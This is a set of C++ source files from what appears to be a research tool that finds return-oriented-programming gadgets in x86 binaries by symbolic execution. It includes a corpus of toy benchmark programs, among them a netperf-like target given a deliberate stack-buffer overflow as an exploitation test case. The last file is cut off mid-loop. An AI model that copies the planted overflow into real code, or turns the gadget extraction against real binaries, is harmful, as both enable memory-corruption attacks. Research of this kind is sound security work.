    enc[w] = run; enc[w + 1] = v; w = w + 2; r = r + run;
  }
  int d = 0; int e = 0;
  while (e < w) {
    int n = enc[e]; int v = enc[e + 1]; int k = 0;
    while (k < n) { dec[d] = v; d = d + 1; k = k + 1; }
    e = e + 2;
  }
  int ok = 1; int j = 0;
  while (j < 48) { if (dec[j] != src[j]) { ok = 0; } j = j + 1; }
  out(ok); out(w);
  return ok * 1000 + w;
})"},
      {"hash_table", R"(
int keys[64]; int vals[64];
int hash(int k) { return ((k * 2654435761) >> 8) & 63; }
int insert(int k, int v) {
  int h = hash(k); int probes = 0;
  while (keys[h] != 0 && keys[h] != k && probes < 64) { h = (h + 1) & 63; probes = probes + 1; }
  keys[h] = k; vals[h] = v;
  return probes;
}
int lookup(int k) {
  int h = hash(k); int probes = 0;
  while (probes < 64) {
    if (keys[h] == k) return vals[h];
    if (keys[h] == 0) return 0 - 1;
    h = (h + 1) & 63; probes = probes + 1;
  }
  return 0 - 1;
}
int main() {
  int i = 1; int total_probes = 0;
  while (i <= 40) { total_probes = total_probes + insert(i * 13 + 7, i * i); i = i + 1; }
  int sum = 0; int j = 1;
  while (j <= 40) { sum = sum + lookup(j * 13 + 7); j = j + 1; }
  out(sum); out(total_probes);
  return sum & 0xffff;
})"},
      {"bit_tricks", R"(
int popcount(int x) {
  int c = 0;
  while (x != 0) { c = c + (x & 1); x = (x >> 1) & 0x7fffffffffffffff; }
  return c;
}
int reverse_bits(int x) {
  int r = 0; int i = 0;
  while (i < 32) { r = (r << 1) | (x & 1); x = x >> 1; i = i + 1; }
  return r;
}
int main() {
  int acc = 0; int i = 1;
  while (i < 500) {
    acc = acc + popcount(i * 2654435761) - popcount(reverse_bits(i));
    acc = acc ^ (i << 3);
    i = i + 7;
  }
  out(acc);
  return acc & 0xffff;
})"},
  };
  return programs;
}

const std::vector<ProgramSource>& spec() {
  static const std::vector<ProgramSource> programs = {
      // 401.bzip2-like: move-to-front + RLE over a generated block.
      {"bzip2_like", R"(
byte block[96]; byte mtf[96]; byte table[256]; byte outbuf[224];
int main() {
  int i = 0;
  while (i < 96) { block[i] = ((i * 37) ^ (i >> 2)) & 0x3f; i = i + 1; }
  i = 0;
  while (i < 256) { table[i] = i; i = i + 1; }
  // move-to-front transform
  int p = 0;
  while (p < 96) {
    int v = block[p];
    int idx = 0;
    while (table[idx] != v) { idx = idx + 1; }
    mtf[p] = idx;
    int k = idx;
    while (k > 0) { table[k] = table[k - 1]; k = k - 1; }
    table[0] = v;
    p = p + 1;
  }
  // run-length encode the mtf output
  int w = 0; int r = 0;
  while (r < 96) {
    int v = mtf[r]; int run = 1;
    while (r + run < 96 && mtf[r + run] == v && run < 255) { run = run + 1; }
    outbuf[w] = run; outbuf[w + 1] = v; w = w + 2; r = r + run;
  }
  int check = 0; int j = 0;
  while (j < w) { check = (check * 31 + outbuf[j]) & 0xffffff; j = j + 1; }
  out(check); out(w);
  return check & 0xffff;
})"},
      // 429.mcf-like: Bellman-Ford over a small flow network.
      {"mcf_like", R"(
int head[16]; int cost[64]; int to[64]; int next_arc[64]; int dist[16];
int n_arcs;
int add_arc(int u, int v, int c) {
  to[n_arcs] = v; cost[n_arcs] = c;
  next_arc[n_arcs] = head[u]; head[u] = n_arcs + 1;
  n_arcs = n_arcs + 1;
  return n_arcs;
}
int main() {
  int i = 0;
  while (i < 16) { head[i] = 0; dist[i] = 99999; i = i + 1; }
  n_arcs = 0;
  int u = 0;
  while (u < 15) {
    add_arc(u, u + 1, (u * 7 + 3) & 15);
    if (u + 3 < 16) { add_arc(u, u + 3, (u * 5 + 11) & 31); }
    if (u & 1) { add_arc(u, (u * 3) & 15, (u + 13) & 7); }
    u = u + 1;
  }
  dist[0] = 0;
  int round = 0;
  while (round < 16) {
    int changed = 0; int x = 0;
    while (x < 16) {
      int a = head[x];
      while (a != 0) {
        int arc = a - 1;
        int nd = dist[x] + cost[arc];
        if (nd < dist[to[arc]]) { dist[to[arc]] = nd; changed = 1; }
        a = next_arc[arc];
      }
      x = x + 1;
    }
    if (changed == 0) { round = 16; } else { round = round + 1; }
  }
  int sum = 0; int k = 0;
  while (k < 16) { if (dist[k] < 99999) { sum = sum + dist[k]; } k = k + 1; }
  out(sum);
  return sum & 0xffff;
})"},
      // 445.gobmk-like: board influence evaluation sweeps.
      {"gobmk_like", R"(
byte board[81]; int influence[81];
int neighbors_of(int pos, int color) {
  int count = 0;
  int r = pos - 9; if (r >= 0) { if (board[r] == color) { count = count + 1; } }
  r = pos + 9; if (r < 81) { if (board[r] == color) { count = count + 1; } }
  if ((pos - (pos >> 3) * 8 - (pos >> 3)) > 0) { if (board[pos - 1] == color) { count = count + 1; } }
  if (pos + 1 < 81) { if (board[pos + 1] == color) { count = count + 1; } }
  return count;
}
int main() {
  int i = 0;
  while (i < 81) { board[i] = ((i * 13 + 5) >> 2) & 3; i = i + 1; }
  int pass = 0;
  while (pass < 8) {
    int p = 0;
    while (p < 81) {
      int inf = neighbors_of(p, 1) * 4 - neighbors_of(p, 2) * 3;
      influence[p] = influence[p] + inf;
      p = p + 1;
    }
    pass = pass + 1;
  }
  int black = 0; int white = 0; int q = 0;
  while (q < 81) {
    if (influence[q] > 0) { black = black + 1; }
    if (influence[q] < 0) { white = white + 1; }
    q = q + 1;
  }
  out(black); out(white);
  return black * 100 + white;
})"},
      // 456.hmmer-like: Viterbi-style dynamic programming matrix fill.
      {"hmmer_like", R"(
int dp[400]; byte seq[20]; int emit[80];
int max2(int a, int b) { if (a > b) return a; return b; }
int main() {
  int i = 0;
  while (i < 20) { seq[i] = (i * 17 + 3) & 3; i = i + 1; }
  i = 0;
  while (i < 80) { emit[i] = ((i * 29) & 31) - 15; i = i + 1; }
  int s = 1;
  while (s < 20) {
    int m = 1;
    while (m < 20) {
      int diag = dp[(s - 1) * 20 + (m - 1)] + emit[m * 4 + seq[s]];
      int up = dp[(s - 1) * 20 + m] - 4;
      int left = dp[s * 20 + (m - 1)] - 4;
      dp[s * 20 + m] = max2(diag, max2(up, left));
      m = m + 1;
    }
    s = s + 1;
  }
  int best = 0; int k = 0;
  while (k < 400) { if (dp[k] > best) { best = dp[k]; } k = k + 1; }
  out(best);
  return best & 0xffff;
})"},
  };
  return programs;
}

const ProgramSource& netperf() {
  // Mirrors the structure of the paper's Fig. 7 target: command-line
  // parsing where break_args copies an attacker-controlled optarg into two
  // fixed-size stack buffers without length checks, then a send loop.
  static const ProgramSource program = {"netperf_like", R"(
byte optarg_buf[128];
int remote_rate; int local_rate; int packets_sent;

int str_chr(int s, int c) {
  int i = 0;
  while (loadb(s + i) != 0) {
    if (loadb(s + i) == c) return s + i;
    i = i + 1;
  }
  return 0;
}

// The vulnerable routine: copies both halves of "local,remote" into the
// caller's fixed-size buffers with no bounds check (CVE-style overflow).
int break_args(int s, int arg1, int arg2) {
  int ns = str_chr(s, ',');
  if (ns) {
    storeb(ns, 0);
    ns = ns + 1;
    while (loadb(ns) != 0) { storeb(arg2, loadb(ns)); arg2 = arg2 + 1; ns = ns + 1; }
    storeb(arg2, 0);
  } else {
    int p = s;
    while (loadb(p) != 0) { storeb(arg2, loadb(p)); arg2 = arg2 + 1; p = p + 1; }
    storeb(arg2, 0);
  }
  while (loadb(s) != 0) { storeb(arg1, loadb(s)); arg1 = arg1 + 1; s = s + 1; }
  storeb(arg1, 0);
  return 0;
}

int parse_int(int s) {
  int v = 0;
  while (loadb(s) >= '0' && loadb(s) <= '9') { v = v * 10 + loadb(s) - '0'; s = s + 1; }
  return v;
}

int scan_cmdline(int arg) {
  byte arg1[16];
  byte arg2[16];
  int a1 = arg1; int a2 = arg2;
  break_args(arg, a1, a2);
  local_rate = parse_int(a1);
  remote_rate = parse_int(a2);
  return local_rate + remote_rate;
}

int send_burst(int n) {
  int i = 0; int acks = 0; int win = 4;
  while (i < n) {
    packets_sent = packets_sent + 1;
    if ((i & 7) < win) { acks = acks + 1; } else { win = (win & 7) + 1; }
    i = i + 1;
  }
  return acks;
}

int main() {
  // Simulated `netperf -a 16,32`: stage the option text, parse, send.
  int p = optarg_buf;
  storeb(p + 0, '1'); storeb(p + 1, '6'); storeb(p + 2, ',');
  storeb(p + 3, '3'); storeb(p + 4, '2'); storeb(p + 5, 0);
  scan_cmdline(p);
  int acks = send_burst(local_rate * remote_rate);
  out(local_rate); out(remote_rate); out(acks);
  return acks & 0xffff;
})"};
  return program;
}

const ProgramSource& by_name(const std::string& name) {
  for (const auto& p : benchmark())
    if (p.name == name) return p;
  for (const auto& p : spec())
    if (p.name == name) return p;
  if (netperf().name == name) return netperf();
  fail("corpus: unknown program " + name);
}

}  // namespace gp::corpus
