// Stable serialization of gadget pools (raw or minimized) for the artifact
// store: the expensive-to-recompute output of extraction + subsumption.
//
// Layout: record 0 is the pool header (gadget count + the expression node
// table shared by every summary), then one record per gadget. The store
// frames each record with its own CRC32, so a flipped bit in any gadget is
// caught by that record's checksum before decoding starts; decode failures
// (truncated fields, out-of-range enums, width violations) additionally
// fail soft — the pool reads as absent and is recomputed, never trusted.
#pragma once

#include <optional>
#include <vector>

#include "gadget/gadget.hpp"
#include "support/serial.hpp"

namespace gp::gadget {

/// Serialize `pool` (expressions owned by `ctx`) into store records.
std::vector<std::vector<u8>> encode_pool(const solver::Context& ctx,
                                         const std::vector<Record>& pool);

/// Rebuild a pool inside `ctx` (expressions replay through its smart
/// constructors, like a cross-context import). nullopt on any corruption.
std::optional<std::vector<Record>> decode_pool(
    solver::Context& ctx, const std::vector<std::vector<u8>>& records);

/// Append the fields of `opts` that determine extraction output to a key
/// writer (thread count and governor excluded: any thread count produces
/// the same pool, and governed runs are only checkpointed when uncut).
void append_extract_key(serial::Writer& w, const ExtractOptions& opts);

/// Content digest of an encoded pool (fnv1a with per-record length
/// framing, so record boundaries are part of the identity). The planner's
/// warm-start memos are keyed on it: same pool bytes, same digest, in any
/// process.
u64 pool_digest(const std::vector<std::vector<u8>>& records);

}  // namespace gp::gadget
