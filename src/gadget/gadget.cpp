#include "gadget/gadget.hpp"

#include <algorithm>
#include <memory>

#include "lift/lift.hpp"
#include "support/metrics.hpp"
#include "support/thread_pool.hpp"
#include "support/trace.hpp"
#include "x86/decoder.hpp"

namespace gp::gadget {

using solver::ExprRef;
using x86::Inst;
using x86::Mnemonic;
using x86::Reg;

const char* end_kind_name(EndKind k) {
  switch (k) {
    case EndKind::Ret: return "ret";
    case EndKind::IndJmp: return "ind-jmp";
    case EndKind::IndCall: return "ind-call";
    case EndKind::Syscall: return "syscall";
  }
  return "<bad>";
}

namespace {

/// In-flight exploration state for one path.
struct Path {
  sym::State st;
  std::vector<PathStep> steps;
  u64 rip;
  int cond_jumps = 0;
  bool has_direct = false;
  u32 first_run_len = 0;
};

/// Explore every path from one start offset, appending completed gadget
/// records to `out`. A free function so it runs identically against the
/// extractor's main context (sequential) or a worker's private context
/// (parallel shards).
void explore_offset(solver::Context& ctx, sym::Executor& exec,
                    const image::Image& img, u64 addr,
                    const ExtractOptions& opts, std::vector<Record>& out,
                    ExtractStats& stats) {
  // Quick pre-filter: must decode at all from this offset.
  auto first = x86::decode(img.code_at(addr), addr);
  if (!first) {
    ++stats.decode_failures;
    return;
  }

  std::vector<Path> frontier;
  try {
    frontier.push_back({exec.initial_state(), {}, addr, 0, false, 0});
  } catch (const ResourceExhausted& e) {
    // Even the initial register file can exceed a (tiny) node budget; treat
    // it like any other cut path so the scan degrades instead of unwinding.
    ++stats.paths_cut;
    stats.status.merge(e.status());
    return;
  }
  int emitted = 0;

  while (!frontier.empty() && emitted < opts.max_paths) {
    Path p = std::move(frontier.back());
    frontier.pop_back();

    try {
    bool dead = false;
    while (!dead) {
      if (static_cast<int>(p.steps.size()) >= opts.max_insts) {
        dead = true;
        break;
      }
      if (!img.in_code(p.rip)) {
        dead = true;
        break;
      }
      auto inst = x86::decode(img.code_at(p.rip), p.rip);
      if (!inst) {
        // A path that walks into undecodable bytes is a decode failure
        // too — only counting the first-offset case undercounts.
        ++stats.decode_failures;
        dead = true;
        break;
      }
      if (inst->mnemonic == Mnemonic::INT3) {
        dead = true;
        break;
      }
      const sym::Flow flow = exec.step(p.st, lift::lift(*inst));
      p.steps.push_back({*inst, false});
      // `len` reports the contiguous byte run from the start address; it
      // stops growing once a direct-jump merge leaves the run.
      if (!p.has_direct) p.first_run_len += inst->len;

      switch (flow.kind) {
        case ir::JumpKind::Fall:
          p.rip = flow.fallthrough;
          continue;

        case ir::JumpKind::Direct:
          if (flow.is_call) {
            // Direct call: following into the callee is equivalent to a
            // direct-jump merge (return address was pushed).
            p.has_direct = true;
            p.rip = flow.target;
            continue;
          }
          // Paper: gadgets ending with a direct jump merge with the gadget
          // at the target address.
          p.has_direct = true;
          p.rip = flow.target;
          continue;

        case ir::JumpKind::CondDirect: {
          if (p.cond_jumps >= opts.max_cond_jumps) {
            dead = true;
            break;
          }
          ++p.cond_jumps;
          // Fork: not-taken continues here; taken goes on the frontier.
          Path taken = p;
          taken.steps.back().branch_taken = true;
          taken.st.constraints.push_back(flow.cond);
          taken.rip = flow.target;
          taken.has_direct = true;
          frontier.push_back(std::move(taken));

          p.st.constraints.push_back(ctx.bnot(flow.cond));
          p.rip = flow.fallthrough;
          continue;
        }

        case ir::JumpKind::Indirect:
        case ir::JumpKind::Syscall: {
          // A `ret` whose popped target resolves to a constant (a called
          // function returning to the return address pushed within this
          // same path) behaves like a direct jump: merge and continue.
          // Other constant-target indirect transfers (e.g. resolved jump
          // tables) end the gadget normally — following them would turn
          // gadgets into whole-program executions.
          if (flow.kind == ir::JumpKind::Indirect && flow.is_ret &&
              flow.target_expr != solver::kNoExpr &&
              ctx.is_const(flow.target_expr) &&
              img.in_code(ctx.const_val(flow.target_expr))) {
            p.has_direct = true;
            p.rip = ctx.const_val(flow.target_expr);
            continue;
          }
          // Complete gadget.
          Record r;
          r.addr = addr;
          r.len = p.first_run_len;
          r.n_insts = static_cast<int>(p.steps.size());
          if (flow.kind == ir::JumpKind::Syscall) {
            r.end = EndKind::Syscall;
          } else if (flow.is_ret) {
            r.end = EndKind::Ret;
          } else if (flow.is_call) {
            r.end = EndKind::IndCall;
          } else {
            r.end = EndKind::IndJmp;
          }
          r.has_cond_jump = p.cond_jumps > 0;
          r.has_direct_jump = p.has_direct;
          r.next_rip = flow.target_expr;  // kNoExpr for syscall
          r.precond = p.st.constraints;
          r.writes = p.st.writes;
          r.ind_reads = p.st.ind_reads;
          r.stack_reads = p.st.stack_reads;
          r.path = p.steps;
          r.aliased_memory = p.st.assumed_no_alias;

          for (int i = 0; i < x86::kNumRegs; ++i) {
            const Reg reg = static_cast<Reg>(i);
            const ExprRef final = p.st.regs[i];
            r.final_regs[i] = final;
            const ExprRef init = ctx.var(sym::initial_reg_var(reg), 64);
            if (final != init) r.clobbered |= reg_bit(reg);
            if (final != init) {
              // Controlled: a function of payload variables only.
              // Settable: a function of payload variables and/or initial GP
              // registers (register-transfer chaining can finish the job).
              bool payload_only = true;
              bool has_payload = false;
              bool settable = true;
              for (const ExprRef v : ctx.variables(final)) {
                const std::string& name = ctx.var_name(v);
                if (sym::parse_stack_var(name)) {
                  has_payload = true;
                  continue;
                }
                payload_only = false;
                if (name.rfind("ind", 0) == 0) continue;  // POINTER dep
                bool is_init_reg = false;
                for (int k = 0; k < x86::kNumRegs; ++k)
                  is_init_reg |=
                      name == sym::initial_reg_var(static_cast<Reg>(k));
                if (!is_init_reg) settable = false;
              }
              if (payload_only && has_payload) r.controlled |= reg_bit(reg);
              if (settable) r.settable |= reg_bit(reg);
            }
          }

          const auto rsp =
              sym::split_base_offset(ctx, p.st.regs[static_cast<int>(Reg::RSP)]);
          const ExprRef rsp0 = ctx.var(sym::initial_reg_var(Reg::RSP), 64);
          if (rsp && rsp->base == rsp0) r.stack_delta = rsp->offset;

          if (opts.drop_wild_stores) {
            bool wild = false;
            for (const auto& w : r.writes) {
              const auto bo = sym::split_base_offset(ctx, w.addr);
              if (!bo || bo->base != rsp0) wild = true;
            }
            if (wild) {
              dead = true;
              break;
            }
          }

          ++stats.gadgets;
          if (r.has_cond_jump) ++stats.with_cond_jump;
          if (r.has_direct_jump) ++stats.with_direct_jump;
          out.push_back(std::move(r));
          ++emitted;
          dead = true;  // path complete
          break;
        }
      }
    }
    } catch (const ResourceExhausted& e) {
      // This path's symbolic summary was cut (step/node budget or an
      // injected allocation fault): drop it with a recorded reason and
      // abandon the offset — sibling paths draw from the same exhausted
      // budgets. The pool stays sound, at worst smaller.
      ++stats.paths_cut;
      stats.status.merge(e.status());
      return;
    }
  }
}

void validate_options(const ExtractOptions& o) {
  // A stride of 0 would scan the first offset forever; negative strides
  // walk off the front of the section. Reject both up front.
  GP_CHECK(o.stride >= 1, "ExtractOptions::stride must be >= 1");
  GP_CHECK(o.max_insts >= 0, "ExtractOptions::max_insts must be >= 0");
  GP_CHECK(o.max_paths >= 0, "ExtractOptions::max_paths must be >= 0");
  GP_CHECK(o.max_cond_jumps >= 0,
           "ExtractOptions::max_cond_jumps must be >= 0");
}

/// True when a governed scan should stop before touching another offset:
/// the deadline passed, the cancel token fired, or a global symbolic budget
/// already ran dry (every further path would be cut on its first step, so
/// pressing on would only burn decode time). Records the reason.
bool scan_stopped(Governor* gov, ExtractStats& stats) {
  if (!gov) return false;
  const Status s = gov->poll();
  if (!s.ok()) {
    stats.status.merge(s);
    return true;
  }
  if (gov->sym_steps().exhausted() || gov->expr_nodes().exhausted()) {
    stats.status.merge(
        Status::budget_exhausted("symbolic step/node budget"));
    return true;
  }
  return false;
}

/// Remap a record produced in a worker context into the main context.
Record import_record(solver::Importer& imp, Record r) {
  for (auto& e : r.final_regs) e = imp.import(e);
  for (auto& e : r.precond) e = imp.import(e);
  r.next_rip = imp.import(r.next_rip);
  for (auto& w : r.writes) {
    w.addr = imp.import(w.addr);
    w.value = imp.import(w.value);
  }
  for (auto& ir : r.ind_reads) {
    ir.addr = imp.import(ir.addr);
    ir.var = imp.import(ir.var);
  }
  return r;
}

/// Roll the per-extraction stat deltas into the process-wide registry so
/// campaign summaries see totals across every session and shard.
void mirror_extract_metrics(const ExtractStats& before,
                            const ExtractStats& after) {
  if (!metrics::enabled()) return;
  metrics::Registry& reg = metrics::registry();
  reg.counter("extract.offsets_scanned")
      .add(after.offsets_scanned - before.offsets_scanned);
  reg.counter("extract.gadgets").add(after.gadgets - before.gadgets);
  reg.counter("extract.decode_failures")
      .add(after.decode_failures - before.decode_failures);
  reg.counter("extract.offsets_skipped")
      .add(after.offsets_skipped - before.offsets_skipped);
  reg.counter("extract.paths_cut").add(after.paths_cut - before.paths_cut);
}

}  // namespace

std::vector<Record> Extractor::extract(const ExtractOptions& opts) {
  validate_options(opts);
  const u64 base = img_.code_base();
  const u64 end = img_.code_end();
  const u64 stride = static_cast<u64>(opts.stride);
  const u64 total = base < end ? (end - base + stride - 1) / stride : 0;

  const ExtractStats before = stats_;
  const int threads = ThreadPool::resolve(opts.threads);
  if (threads > 1 && total > 1) {
    std::vector<Record> out = extract_parallel(opts, threads);
    mirror_extract_metrics(before, stats_);
    return out;
  }

  exec_.set_governor(opts.governor);
  std::vector<Record> out;
  for (u64 k = 0; k < total; ++k) {
    if (scan_stopped(opts.governor, stats_)) {
      stats_.offsets_skipped += total - k;
      break;
    }
    const u64 addr = base + k * stride;
    ++stats_.offsets_scanned;
    exec_.begin_origin(addr);
    explore_offset(ctx_, exec_, img_, addr, opts, out, stats_);
  }
  mirror_extract_metrics(before, stats_);
  return out;
}

std::vector<Record> Extractor::extract_parallel(const ExtractOptions& opts,
                                                int threads) {
  const u64 base = img_.code_base();
  const u64 stride = static_cast<u64>(opts.stride);
  const u64 total = (img_.code_end() - base + stride - 1) / stride;

  // Shard the scan into more chunks than lanes so uneven exploration costs
  // balance via the pool's dynamic item claiming; chunks stay large enough
  // to amortize each worker context's warm-up interning.
  const u64 target = static_cast<u64>(threads) * 8;
  const u64 chunk = std::max<u64>(u64{32}, (total + target - 1) / target);
  const u64 nchunks = (total + chunk - 1) / chunk;

  // Each chunk explores its offsets in a private context (the expression
  // interner is the shared-state bottleneck) with a private executor and
  // stats block; nothing is shared across chunks until the merge below.
  struct Shard {
    std::unique_ptr<solver::Context> ctx;
    std::vector<Record> records;
    ExtractStats stats;
  };
  std::vector<Shard> shards(nchunks);

  ThreadPool::shared().run(
      nchunks,
      [&](int /*lane*/, u64 ci) {
        trace::Span span("extract.shard", "shard");
        Shard& s = shards[ci];
        s.ctx = std::make_unique<solver::Context>();
        // The shared governor reaches every worker lane: the shard context
        // draws on the same (atomic) node budget and the per-offset poll
        // below observes the same deadline/cancel token, so cancellation
        // propagates to thread-pool workers within one offset.
        s.ctx->set_governor(opts.governor);
        sym::Executor exec(*s.ctx, &img_);
        exec.set_governor(opts.governor);
        const u64 hi = std::min((ci + 1) * chunk, total);
        for (u64 k = ci * chunk; k < hi; ++k) {
          if (scan_stopped(opts.governor, s.stats)) {
            s.stats.offsets_skipped += hi - k;
            break;
          }
          const u64 addr = base + k * stride;
          ++s.stats.offsets_scanned;
          exec.begin_origin(addr);
          explore_offset(*s.ctx, exec, img_, addr, opts, s.records, s.stats);
        }
      },
      threads);

  // Deterministic merge: remap every shard's records into the main context
  // in chunk (= offset) order, so the pool matches the sequential scan.
  std::vector<Record> out;
  for (Shard& s : shards) {
    solver::Importer imp(*s.ctx, ctx_);
    try {
      for (Record& r : s.records)
        out.push_back(import_record(imp, std::move(r)));
    } catch (const ResourceExhausted& e) {
      // The main context's node budget ran out mid-merge: the remaining
      // records of this shard (and later shards) are dropped with a
      // recorded reason rather than imported over budget.
      stats_.paths_cut += 1;
      stats_.status.merge(e.status());
      stats_ += s.stats;
      s.ctx.reset();
      break;
    }
    stats_ += s.stats;
    s.ctx.reset();  // drop the worker interner as soon as it is remapped
  }
  return out;
}

Library::Library(std::vector<Record> records) : records_(std::move(records)) {
  // Directly payload-controlled gadgets first (cheapest for the planner),
  // register-transfer gadgets after; within each class, shorter first.
  for (int pass = 0; pass < 2; ++pass) {
    std::vector<u32> order(records_.size());
    for (u32 i = 0; i < records_.size(); ++i) order[i] = i;
    std::sort(order.begin(), order.end(), [&](u32 a, u32 b) {
      if (records_[a].n_insts != records_[b].n_insts)
        return records_[a].n_insts < records_[b].n_insts;
      return records_[a].addr < records_[b].addr;
    });
    for (const u32 i : order) {
      const Record& r = records_[i];
      for (int reg = 0; reg < x86::kNumRegs; ++reg) {
        const bool pure = r.controlled & reg_bit(static_cast<Reg>(reg));
        const bool transfer =
            (r.settable & reg_bit(static_cast<Reg>(reg))) && !pure;
        if ((pass == 0 && pure) || (pass == 1 && transfer))
          by_reg_[reg].push_back(i);
      }
    }
  }
  for (u32 i = 0; i < records_.size(); ++i)
    if (records_[i].end == EndKind::Syscall) syscall_gadgets_.push_back(i);
}

}  // namespace gp::gadget
