#include "gadget/gadget.hpp"

#include <algorithm>

#include "lift/lift.hpp"
#include "x86/decoder.hpp"

namespace gp::gadget {

using solver::ExprRef;
using x86::Inst;
using x86::Mnemonic;
using x86::Reg;

const char* end_kind_name(EndKind k) {
  switch (k) {
    case EndKind::Ret: return "ret";
    case EndKind::IndJmp: return "ind-jmp";
    case EndKind::IndCall: return "ind-call";
    case EndKind::Syscall: return "syscall";
  }
  return "<bad>";
}

namespace {

/// In-flight exploration state for one path.
struct Path {
  sym::State st;
  std::vector<PathStep> steps;
  u64 rip;
  int cond_jumps = 0;
  bool has_direct = false;
  u32 first_run_len = 0;
};

}  // namespace

void Extractor::explore(u64 addr, const ExtractOptions& opts,
                        std::vector<Record>& out) {
  // Quick pre-filter: must decode at all from this offset.
  auto first = x86::decode(img_.code_at(addr), addr);
  if (!first) {
    ++stats_.decode_failures;
    return;
  }

  std::vector<Path> frontier;
  frontier.push_back({exec_.initial_state(), {}, addr, 0, false, 0});
  int emitted = 0;

  while (!frontier.empty() && emitted < opts.max_paths) {
    Path p = std::move(frontier.back());
    frontier.pop_back();

    bool dead = false;
    while (!dead) {
      if (static_cast<int>(p.steps.size()) >= opts.max_insts) {
        dead = true;
        break;
      }
      if (!img_.in_code(p.rip)) {
        dead = true;
        break;
      }
      auto inst = x86::decode(img_.code_at(p.rip), p.rip);
      if (!inst || inst->mnemonic == Mnemonic::INT3) {
        dead = true;
        break;
      }
      const sym::Flow flow = exec_.step(p.st, lift::lift(*inst));
      p.steps.push_back({*inst, false});
      // `len` reports the contiguous byte run from the start address; it
      // stops growing once a direct-jump merge leaves the run.
      if (!p.has_direct) p.first_run_len += inst->len;

      switch (flow.kind) {
        case ir::JumpKind::Fall:
          p.rip = flow.fallthrough;
          continue;

        case ir::JumpKind::Direct:
          if (flow.is_call) {
            // Direct call: following into the callee is equivalent to a
            // direct-jump merge (return address was pushed).
            p.has_direct = true;
            p.rip = flow.target;
            continue;
          }
          // Paper: gadgets ending with a direct jump merge with the gadget
          // at the target address.
          p.has_direct = true;
          p.rip = flow.target;
          continue;

        case ir::JumpKind::CondDirect: {
          if (p.cond_jumps >= opts.max_cond_jumps) {
            dead = true;
            break;
          }
          ++p.cond_jumps;
          // Fork: not-taken continues here; taken goes on the frontier.
          Path taken = p;
          taken.steps.back().branch_taken = true;
          taken.st.constraints.push_back(flow.cond);
          taken.rip = flow.target;
          taken.has_direct = true;
          frontier.push_back(std::move(taken));

          p.st.constraints.push_back(ctx_.bnot(flow.cond));
          p.rip = flow.fallthrough;
          continue;
        }

        case ir::JumpKind::Indirect:
        case ir::JumpKind::Syscall: {
          // A `ret` whose popped target resolves to a constant (a called
          // function returning to the return address pushed within this
          // same path) behaves like a direct jump: merge and continue.
          // Other constant-target indirect transfers (e.g. resolved jump
          // tables) end the gadget normally — following them would turn
          // gadgets into whole-program executions.
          if (flow.kind == ir::JumpKind::Indirect && flow.is_ret &&
              flow.target_expr != solver::kNoExpr &&
              ctx_.is_const(flow.target_expr) &&
              img_.in_code(ctx_.const_val(flow.target_expr))) {
            p.has_direct = true;
            p.rip = ctx_.const_val(flow.target_expr);
            continue;
          }
          // Complete gadget.
          Record r;
          r.addr = addr;
          r.len = p.first_run_len;
          r.n_insts = static_cast<int>(p.steps.size());
          if (flow.kind == ir::JumpKind::Syscall) {
            r.end = EndKind::Syscall;
          } else if (flow.is_ret) {
            r.end = EndKind::Ret;
          } else if (flow.is_call) {
            r.end = EndKind::IndCall;
          } else {
            r.end = EndKind::IndJmp;
          }
          r.has_cond_jump = p.cond_jumps > 0;
          r.has_direct_jump = p.has_direct;
          r.next_rip = flow.target_expr;  // kNoExpr for syscall
          r.precond = p.st.constraints;
          r.writes = p.st.writes;
          r.ind_reads = p.st.ind_reads;
          r.stack_reads = p.st.stack_reads;
          r.path = p.steps;
          r.aliased_memory = p.st.assumed_no_alias;

          for (int i = 0; i < x86::kNumRegs; ++i) {
            const Reg reg = static_cast<Reg>(i);
            const ExprRef final = p.st.regs[i];
            r.final_regs[i] = final;
            const ExprRef init = ctx_.var(sym::initial_reg_var(reg), 64);
            if (final != init) r.clobbered |= reg_bit(reg);
            if (final != init) {
              // Controlled: a function of payload variables only.
              // Settable: a function of payload variables and/or initial GP
              // registers (register-transfer chaining can finish the job).
              bool payload_only = true;
              bool has_payload = false;
              bool settable = true;
              for (const ExprRef v : ctx_.variables(final)) {
                const std::string& name = ctx_.var_name(v);
                if (sym::parse_stack_var(name)) {
                  has_payload = true;
                  continue;
                }
                payload_only = false;
                if (name.rfind("ind", 0) == 0) continue;  // POINTER dep
                bool is_init_reg = false;
                for (int k = 0; k < x86::kNumRegs; ++k)
                  is_init_reg |=
                      name == sym::initial_reg_var(static_cast<Reg>(k));
                if (!is_init_reg) settable = false;
              }
              if (payload_only && has_payload) r.controlled |= reg_bit(reg);
              if (settable) r.settable |= reg_bit(reg);
            }
          }

          const auto rsp =
              sym::split_base_offset(ctx_, p.st.regs[static_cast<int>(Reg::RSP)]);
          const ExprRef rsp0 = ctx_.var(sym::initial_reg_var(Reg::RSP), 64);
          if (rsp && rsp->base == rsp0) r.stack_delta = rsp->offset;

          if (opts.drop_wild_stores) {
            bool wild = false;
            for (const auto& w : r.writes) {
              const auto bo = sym::split_base_offset(ctx_, w.addr);
              if (!bo || bo->base != rsp0) wild = true;
            }
            if (wild) {
              dead = true;
              break;
            }
          }

          ++stats_.gadgets;
          if (r.has_cond_jump) ++stats_.with_cond_jump;
          if (r.has_direct_jump) ++stats_.with_direct_jump;
          out.push_back(std::move(r));
          ++emitted;
          dead = true;  // path complete
          break;
        }
      }
    }
  }
}

std::vector<Record> Extractor::extract(const ExtractOptions& opts) {
  std::vector<Record> out;
  const u64 base = img_.code_base();
  const u64 end = img_.code_end();
  for (u64 addr = base; addr < end;
       addr += static_cast<u64>(opts.stride)) {
    ++stats_.offsets_scanned;
    explore(addr, opts, out);
  }
  return out;
}

Library::Library(std::vector<Record> records) : records_(std::move(records)) {
  // Directly payload-controlled gadgets first (cheapest for the planner),
  // register-transfer gadgets after; within each class, shorter first.
  for (int pass = 0; pass < 2; ++pass) {
    std::vector<u32> order(records_.size());
    for (u32 i = 0; i < records_.size(); ++i) order[i] = i;
    std::sort(order.begin(), order.end(), [&](u32 a, u32 b) {
      if (records_[a].n_insts != records_[b].n_insts)
        return records_[a].n_insts < records_[b].n_insts;
      return records_[a].addr < records_[b].addr;
    });
    for (const u32 i : order) {
      const Record& r = records_[i];
      for (int reg = 0; reg < x86::kNumRegs; ++reg) {
        const bool pure = r.controlled & reg_bit(static_cast<Reg>(reg));
        const bool transfer =
            (r.settable & reg_bit(static_cast<Reg>(reg))) && !pure;
        if ((pass == 0 && pure) || (pass == 1 && transfer))
          by_reg_[reg].push_back(i);
      }
    }
  }
  for (u32 i = 0; i < records_.size(); ++i)
